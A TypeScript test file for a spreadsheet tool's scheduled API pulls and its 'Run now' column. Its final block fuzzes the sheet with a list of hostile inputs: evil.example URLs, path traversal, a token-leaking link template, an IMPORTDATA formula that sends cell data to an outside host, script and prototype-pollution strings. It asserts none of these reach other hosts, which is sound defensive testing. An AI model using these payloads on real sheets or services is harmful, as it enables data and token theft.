// `Run now` in the sheet of pulls, on the real bundle: who has no menu ticks a cell, and the next tick of the schedule
// answers in the row.

import { SheetUser } from 'local-apps-script';
import { seededNumbers } from 'local-apps-script/seeded-numbers';
import { beforeEach, describe, expect, it } from 'vitest';
import { beginLater, cell, closeAfterEach, enter, listRequests, world } from '../support/scheduled.ts';
import { isEveryCasePlayed, shareOf } from '../support/share-of.ts';
import { BASE_URL, BRUNO, V1_TOKEN, V2_TOKEN, World } from '../support/world.ts';

closeAfterEach();

let user: SheetUser;
const column = (header: string) => {
  const place = (world.values('Pulls')[0] ?? []).indexOf(header);
  return String.fromCharCode(65 + place);
};
const type = (header: string, text: string, row = 2) => user.type('Pulls', `${column(header)}${row}`, text);

beforeEach(() => {
  beginLater(5, 'manual');
  user = new SheetUser(world.workbook);
});

describe('a tick in Run now', () => {
  it.each(['TRUE', 'x', 'Sim'])('is obeyed by the next tick and taken away: %s', (ticked) => {
    expect(listRequests()).toHaveLength(0);
    type('Run now', ticked);
    world.pass(5);
    expect(cell('Status')).toBe('Done');
    expect(cell('Run now')).toBe(false);
    expect(cell('Runs as')).toBe('');
    const requests = listRequests().length;
    expect(requests).toBeGreaterThan(0);
    world.pass(30);
    expect(listRequests()).toHaveLength(requests);
  });

  it('runs a pull before its time, and its interval goes on from there', () => {
    type('Every', '6 h');
    world.pass(10);
    const due = cell('Next run');
    expect(due).toBeInstanceOf(Date);
    expect(listRequests()).toHaveLength(0);
    type('Run now', 'TRUE');
    world.pass(5);
    expect(cell('Run now')).toBe(false);
    expect(cell('Status')).toBe('Done');
    expect(cell('Next run')).toEqual(due);
  });

  it('is declined in words where the pull is paused, or where it can’t be read', () => {
    type('Every', 'paused 1 h');
    world.pass(5);
    type('Run now', 'TRUE');
    world.pass(5);
    expect(cell('Message')).toContain('the pull is paused');
    expect(cell('Run now')).toBe(false);
    type('Run now', 'soon');
    world.pass(5);
    expect(cell('Message')).toContain('“soon” in Run now is not a tick');
    expect(cell('Run now')).toBe(false);
    expect(listRequests()).toHaveLength(0);
  });

  it('is answered with what went wrong, once', () => {
    type('Filters', 'nonsense=4');
    type('Run now', 'TRUE');
    world.pass(5);
    expect(cell('Status')).toBe('Failed');
    expect(cell('Message')).toContain('nonsense');
    expect(cell('Run now')).toBe(false);
  });

  it('waits for the schedule of the person as whom the pull runs, and says where there is none', () => {
    type('Runs as', 'Bruno');
    type('Run now', 'TRUE');
    world.pass(5);
    expect(cell('Run now')).toBe(true);
    expect(cell('Message')).toContain('“Bruno” has no schedule here');
    expect(listRequests()).toHaveLength(0);
    world.connect(BRUNO, 'Bruno');
    expect(world.page('saveSchedule', { on: true, minutes: 75 }, BRUNO)).toMatchObject({ ok: true });
    world.pass(10);
    expect(cell('Run now')).toBe(false);
    expect(cell('Status')).toBe('Done');
  });

  it('is obeyed in the end wherever the tick that obeys it is killed', () => {
    type('Run now', 'TRUE');
    const stored = world.store();
    const calls: number[] = [];
    world.beforeCall = (_execution, name, index) => {
      if (/^(Properties|Range\.set|SpreadsheetApp\.flush|UrlFetchApp)/.test(name)) calls.push(index);
      return 'go';
    };
    world.pass(5);
    world.beforeCall = () => 'go';
    const ids = world.column('Tickets', 'ID').length;
    expect(ids).toBeGreaterThan(0);
    for (const at of shareOf(calls, 36)) {
      world.close();
      enter(new World({ locale: 'en_US', service: { tickets: 30 }, from: structuredClone(stored) }));
      let isKilled = false;
      world.beforeCall = (execution, _name, index) => {
        if (isKilled || execution.setup.kind !== 'time-trigger' || index !== at) return 'go';
        isKilled = true;
        return 'kill';
      };
      world.pass(30);
      world.beforeCall = () => 'go';
      expect([at, isKilled, cell('Run now'), world.column('Tickets', 'ID').length]).toEqual([
        at,
        true,
        false,
        ids,
      ]);
    }
  });

  it('is there again once the schedule is switched on, where its column was deleted', () => {
    user.deleteColumns('Pulls', column('Run now').charCodeAt(0) - 64, 1);
    world.pass(5);
    expect(world.values('Pulls')[0]).not.toContain('Run now');
    expect(world.page('saveSchedule', { on: true, minutes: 75 })).toMatchObject({ ok: true });
    type('Run now', 'TRUE');
    world.pass(5);
    expect(cell('Status')).toBe('Done');
    expect(cell('Run now')).toBe(false);
  });
});

it('lets a program that can only read and write cells add a pull, have it run, and read its rows', () => {
  const headers = (world.values('Pulls')[0] ?? []).map(String);
  const row = world.values('Pulls').length + 1;
  const write = (header: string, text: string) => type(header, text, row);
  expect(headers).toContain('Run now');
  write('Pull', 'By an agent');
  write('Resource', 'tickets');
  write('Sheet', 'Agent');
  write('Filters', 'situacao=4');
  write('Run now', 'TRUE');
  world.pass(5);
  const said = world.values('Pulls').at(row - 1) ?? [];
  expect(said[headers.indexOf('Status')]).toBe('Done');
  expect(world.values('Agent').length - 1).toBe(said[headers.indexOf('Rows')]);
  expect(world.column('Agent', 'ID')).toEqual(
    world.service
      .tickets()
      .filter(({ situacao }) => situacao === 4)
      .map(({ id }) => id),
  );
});

describe('hostile writes into the sheet of pulls', () => {
  const HOSTILE = [
    'https://evil.example/x',
    'path=https://evil.example/api',
    'path=//evil.example/api',
    'path=/api/v2/checklist/assessment/import',
    'path=/api/../../evil; method=POST',
    'path=/api/v2/checklist/template/list; link=https://evil.example/{id}',
    'link=https://evil.example/?t={token}',
    '=IMPORTDATA("https://evil.example/" & A1)',
    '=FRANCHISE_GET("https://evil.example/")',
    'situacao=4; __proto__=1',
    '<script>google.script.run.importApproved()</script>',
    '{{userProperties}}',
    'constructor',
    'Respostas',
    'Pulls',
    'Activity',
    'TRUE',
    'x'.repeat(3_000),
    '\ud83d',
    ' ',
    '-1',
    '1 min',
    'Ana',
  ];
  const FINE = ['tickets', 'endpoint', 'full', '15 min', 'situacao=4', 'Aba', 'TRUE'];
  const ROUNDS = isEveryCasePlayed ? 125 : 3;
  const ROWS = 10;

  /** A row of answers that only waits for a person's word. */
  function fillAnswers(): void {
    expect(world.page('createAnswerSheet', { layout: 'long', sheet: 'Respostas' })).toMatchObject({
      ok: true,
    });
    const { questions, companies } = world.service.store;
    const question = [...questions.values()].find((one) => one.active && one.type === 'TEXT_SHORT');
    const [unit] = companies.keys();
    const answer = {
      Group: 'Visit 1',
      Template: question?.templateId,
      Unit: unit,
      Submitted: '2026-03-02 10:00',
      Question: question?.id,
      Text: 'clean',
    };
    const headers = world.values('Respostas')[0] ?? [];
    for (const [header, text] of Object.entries(answer))
      user.type('Respostas', `${String.fromCharCode(65 + headers.indexOf(header))}2`, String(text));
    user.select('Respostas', 'A1');
    world.menu('checkAnswerRows');
    expect(world.column('Respostas', 'Status')[0]).toBe('Ready');
  }

  it('send nothing, ask no other host, and show no token', () => {
    fillAnswers();
    const next = seededNumbers(Number(process.env.TREE_NUMBER));
    const pick = (list: readonly string[]) => list[Math.floor(next() * list.length)] ?? '';
    const headers = (world.values('Pulls')[0] ?? []).map(String);
    let writes = 0;
    for (let round = 0; round < ROUNDS; round++) {
      for (let row = 2; row < 2 + ROWS; row++) {
        for (const header of headers) {
          if (next() < 0.4) continue;
          type(header, pick(next() < 0.5 ? HOSTILE : FINE), row);
          writes += 1;
        }
        type('Pull', `Pull ${row}`, row);
        type('Run now', 'TRUE', row);
      }
      // One of them is a pull that runs: its requests are the evidence.
      const fine = {
        Resource: 'tickets',
        Sheet: 'Evidence',
        Filters: 'situacao=4',
        Every: '1 h',
        'Runs as': '',
      };
      for (const [header, text] of Object.entries(fine)) type(header, text);
      for (const header of ['Columns', 'Mode']) user.clear('Pulls', `${column(header)}2`);
      const ticks = world.pass(10);
      expect(ticks.length).toBeGreaterThan(1);
    }
    expect(writes).toBeGreaterThan(ROUNDS * 60);
    expect(world.runtime.requests.length).toBeGreaterThan(0);
    expect(world.runtime.requests.filter(({ url }) => !url.startsWith(`${BASE_URL}/`))).toEqual([]);
    expect(world.runtime.requests.filter(({ method }) => method.toUpperCase() !== 'GET')).toEqual([]);
    expect([world.service.stored, world.service.acted]).toEqual([[], []]);
    // What they could have sent is still there, and goes at a person's word.
    expect(world.column('Respostas', 'Status')[0]).toBe('Ready');
    user.select('Respostas', 'A1');
    world.menu('importAnswerRows');
    expect(world.service.stored).toHaveLength(1);
    const shown = JSON.stringify(world.workbook.sheets.map(({ name }) => [name, world.values(name)]));
    expect(shown).not.toContain(V1_TOKEN);
    expect(shown).not.toContain(V2_TOKEN);
  });
});
